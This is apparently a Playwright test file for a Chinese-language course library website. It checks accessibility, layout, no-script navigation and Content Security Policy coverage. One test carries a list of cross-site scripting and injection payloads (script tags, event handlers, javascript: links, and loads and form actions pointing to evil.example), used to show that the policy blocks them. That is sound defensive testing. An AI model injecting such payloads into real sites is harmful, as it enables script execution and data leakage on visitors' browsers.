"""What runs in a browser: no request to another host, no accessibility violation, nothing wider than a
phone.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from html import unescape
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from conftest import served
from playwright.sync_api import Browser

PAGES = (
    "",
    "grades/",
    "grades/g3/",
    "grades/g3/core/",
    "courses/",
    "courses/pei-xie-zuo-ye/",
    "bases/chongqing-lishi-mingrenguan/",
    "guide/",
    "guide/browser/",
    "guide/helping/",
    "guide/problems/",
    "guide/fields/courses/",
    "about/",
    "parents/",
    "teachers/",
    "bases/",
    "brands/",
    "brands/shi-li-xiao-xue-yue-du-cun-zhe/",
    "courses/shi-li-kao-qian-shao-shuo-san-ju/",
    "courses/pei-xie-zuo-ye/?sheet#sheet",
    "bases/chongqing-lishi-mingrenguan/?sheet#sheet",
    "shelf/",
    "style/",
    "404.html",
)
RULES: dict[str, object] = {
    "runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
}
#: Colours are the same in the large edition, and larger letters ask for less contrast.
LARGE_RULES = RULES | {"rules": {"color-contrast": {"enabled": False}}}


@pytest.fixture(scope="module")
def address(own_site: Path) -> Iterator[str]:
    with served(own_site) as at:
        yield at


@pytest.mark.browser
@pytest.mark.parametrize("large", [False, True], ids=["usual", "large"])
@pytest.mark.parametrize(
    ("width", "height", "scheme"),
    [(390, 844, "light"), (390, 844, "dark"), (1280, 800, "light"), (1280, 800, "dark")],
)
def test_pages_are_accessible_fit_the_screen_and_call_nobody_else(
    address: str, browser: Browser, width: int, height: int, scheme: str, large: bool
) -> None:
    context = browser.new_context(viewport={"width": width, "height": height}, color_scheme=scheme)  # type: ignore[arg-type]
    page = context.new_page()
    rules = LARGE_RULES if large else RULES
    if large:
        page.add_init_script("localStorage['library-size'] = 'large'")
    outside: list[str] = []
    page.on(
        "request",
        lambda request: (
            outside.append(request.url) if not request.url.startswith((address, "data:")) else None
        ),
    )
    for path in PAGES:
        answer = page.goto(address + path)
        assert answer
        assert answer.ok, path
        assert (page.locator("html[data-size=large]").count() == 1) == large
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), (
            f"{path} is wider than {width}"
        )
        violations = [
            (violation["id"], violation["nodes"][0]["target"])
            for violation in Axe().run(page, options=rules).response["violations"]
        ]
        assert violations == [], path
    assert outside == []
    context.close()


@pytest.mark.browser
def test_nothing_is_lost_at_twice_the_size(address: str, browser: Browser) -> None:
    context = browser.new_context(viewport={"width": 640, "height": 400})
    page = context.new_page()
    for path in PAGES:
        page.goto(address + path)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
        assert page.locator("h1").first.is_visible(), path
        if "?sheet" not in path:  # the sheet stands alone
            page.get_by_text("菜单", exact=True).click()
            page.get_by_role("navigation", name="主导航").get_by_role(
                "link"
            ).last.scroll_into_view_if_needed()
    context.close()


@pytest.mark.browser
def test_forced_colours_leave_borders_where_grounds_told(address: str, browser: Browser) -> None:
    page = browser.new_page(forced_colors="active")
    page.goto(address + "style/")
    plain = """[...document.querySelectorAll('.lib-badge, .lib-chip, .lib-button, .lib-notice, .lib-card')]
        .filter(each => !parseFloat(getComputedStyle(each).borderTopWidth)).map(each => each.className)"""
    assert page.evaluate(plain) == []
    chosen = page.locator(".lib-button[aria-pressed=true], .lib-chip[aria-current]")
    assert set(chosen.evaluate_all("all => all.map(each => getComputedStyle(each).borderTopWidth)")) == {
        "3px"
    }
    page.close()


@pytest.mark.browser
def test_a_parent_reaches_a_lesson_in_two_taps_without_scripts(address: str, browser: Browser) -> None:
    context = browser.new_context(viewport={"width": 390, "height": 844}, java_script_enabled=False)
    page = context.new_page()
    page.goto(address)
    page.get_by_role("link", name="三年级", exact=True).click()
    page.locator(".lib-card__link").first.click()
    assert "/courses/" in page.url
    assert page.locator("h1").count() == 1
    context.close()


@pytest.mark.browser
def test_the_sheet_stands_alone_without_scripts(address: str, browser: Browser) -> None:
    context = browser.new_context(viewport={"width": 390, "height": 844}, java_script_enabled=False)
    page = context.new_page()
    page.goto(address + "courses/pei-xie-zuo-ye/")
    page.get_by_role("link", name=re.compile("打开家长行动单")).click()
    assert page.get_by_role("heading", name="家长行动单").is_visible()
    assert not page.get_by_role("heading", name="教学过程").is_visible()
    page.get_by_role("link", name="回到整页").click()
    assert page.get_by_role("heading", name="教学过程").is_visible()
    context.close()


@pytest.mark.browser
def test_what_can_be_done_with_a_lesson_is_in_sight_when_it_opens(address: str, browser: Browser) -> None:
    page = browser.new_page(viewport={"width": 390, "height": 844})
    page.goto(address + "courses/pei-xie-zuo-ye/")
    for name in ("打印", "分享", "收藏"):
        box = page.get_by_role("button", name=name, exact=True).bounding_box()
        assert box
        assert box["y"] + box["height"] <= 844, name
    page.close()


#: What a sanitiser with a hole could let through: each says something, or asks another host.
PAYLOADS = (
    "<script>console.log(`hit`)</script>",
    "<img src=x onerror='console.log(`hit`)'>",
    "<svg onload='console.log(`hit`)'></svg>",
    "<script src='https://evil.example/x.js'></script>",
    "<script src='data:text/javascript,console.log(`hit`)'></script>",
    "<iframe srcdoc='<script>console.log(`hit`)</script>'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<img src='https://evil.example/x.png'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body { background: url(https://evil.example/x.png) }</style>",
    "<object data='https://evil.example/x'></object>",
    "<base href='https://evil.example/'><img src='x.png'>",
    "<a id=link href='javascript:void(console.log(`hit`))'>一</a>",
    "<form id=form action='https://evil.example/'><button>一</button></form>",
)


def opened_with(payload: str, page: str, browser: Browser, folder: Path) -> tuple[bool, bool]:
    """Whether a payload in the text of a page runs, and whether another host is asked."""
    (folder / "index.html").write_text(page.replace("<main", f"{payload}<main", 1), "utf-8")
    asked: list[str] = []
    said: list[str] = []
    with served(folder) as address:
        context = browser.new_context()
        context.route(
            "https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort())
        )
        tab = context.new_page()
        tab.on("console", lambda message: said.append(message.text))
        tab.goto(address)
        tab.evaluate("setTimeout(() => document.querySelector('#link, #form button')?.click())")
        tab.wait_for_timeout(150)
        context.close()
    return "hit" in said, bool(asked)


@pytest.mark.browser
@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_slips_past_the_sanitiser_meets_the_policy(
    own_site: Path, browser: Browser, payload: str, tmp_path: Path
) -> None:
    page = (own_site / "about" / "index.html").read_text("utf-8")
    policy = re.findall(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n', page)
    assert len(policy) == 1
    assert opened_with(payload, page.replace(policy[0], ""), browser, tmp_path) != (False, False)
    assert opened_with(payload, page, browser, tmp_path) == (False, False)


def test_every_page_has_the_policy_and_sends_no_referrer(own_site: Path) -> None:
    pages = list(own_site.rglob("*.html"))
    assert len(pages) > 200
    for path in pages:
        text = path.read_text("utf-8")
        assert text.count('http-equiv="Content-Security-Policy"') == 1, path
        policy = re.findall(r'Security-Policy" content="([^"]*)"', text)[0]
        assert "base-uri 'none'" in unescape(policy), path
        if "admin" not in path.relative_to(own_site).parts:
            assert "unsafe" not in policy, path
            assert 'name="referrer"' in text or 'http-equiv="refresh"' in text, path


@pytest.mark.browser
def test_no_page_of_ours_meets_its_policy(address: str, browser: Browser) -> None:
    context = browser.new_context()
    tab = context.new_page()
    said: list[str] = []
    tab.on("console", lambda message: said.append(message.text))
    for page in (*PAGES, "search/?q=作业"):
        tab.goto(f"{address}{page}")
        tab.wait_for_load_state("networkidle")
    context.close()
    assert [words for words in said if "Content Security Policy" in words] == []
